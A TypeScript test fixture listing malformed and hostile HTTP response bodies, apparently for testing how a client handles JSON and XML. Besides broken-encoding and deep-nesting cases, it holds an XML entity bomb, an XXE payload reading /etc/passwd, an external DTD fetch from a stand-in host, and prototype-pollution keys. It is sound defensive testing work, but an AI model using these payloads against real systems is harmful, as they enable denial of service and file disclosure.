/** Servers whose answers are whole, and whose bodies are traps for those who read them. */
import { answer, type Behaviour, writes } from './behaviour.sample.ts'

const json = 'Content-Type: application/json'
const xml = 'Content-Type: text/xml;charset=utf-8'
const deep = 100_000
const lol = Array.from({ length: 20 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')

/** Name, header, body. */
const bodies: readonly (readonly [name: string, header: string, body: string])[] = [
  ['sends bytes that are no UTF-8', json, '{"a":"\xff\xfe\xc3("}'],
  ['sends half a JSON text', json, '{"a":'],
  ['sends JSON with something behind it', json, '{"a":1} trailing'],
  ['sends an empty body', json, ''],
  ['sends blanks only', json, ' \r\n\t '],
  ['sends a byte order mark', json, '\xef\xbb\xbf{"a":1}'],
  ['sends lists within lists', json, '['.repeat(deep) + ']'.repeat(deep)],
  ['sends objects within objects', json, '{"a":'.repeat(deep) + '1' + '}'.repeat(deep)],
  ['sends lists without end', json, '['.repeat(deep)],
  ['sends a number of a thousand digits', json, `{"a":${'9'.repeat(1000)},"b":1e999,"c":-0}`],
  ['sends a key twice', json, '{"a":1,"a":2}'],
  ['sends the key `__proto__`', json, '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'],
  ['sends a lone surrogate', json, '{"a":"\\ud800"}'],
  ['sends NUL and control characters', json, '{"a":"\\u0000\\u001b[2J"}'],
  ['sends NaN', json, '{"a":NaN}'],
  ['sends HTML and calls it JSON', json, '<!DOCTYPE html><h1>502 Bad Gateway</h1>'],
  ['sends HTML', 'Content-Type: text/html', '<script>alert(1)</script>'],
  ['sends JSON and calls it XML', xml, '{"a":1}'],
  ['sends XML with an entity bomb', xml, `<!DOCTYPE x [<!ENTITY l0 "lol">${lol}]><x>&l20;</x>`],
  ['sends XML with an external entity', xml, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
  [
    'sends XML with a parameter entity',
    xml,
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://elsewhere.invalid/x.dtd"> %p;]><x/>',
  ],
  ['sends XML that never closes', xml, '<a>'.repeat(deep)],
  ['sends an XML element named `__proto__`', xml, '<x><__proto__><polluted>1</polluted></__proto__></x>'],
  ['names a media type that is none', 'Content-Type: \xff/;;=', '{"a":1}'],
  ['names another character set', `${json};charset=utf-16`, '{\0"\0a\0"\0'],
]

export const misleading: readonly Behaviour[] = bodies.map(([name, header, body]) =>
  writes(name, answer(body, header), { ends: 'response', status: 200 }),
)
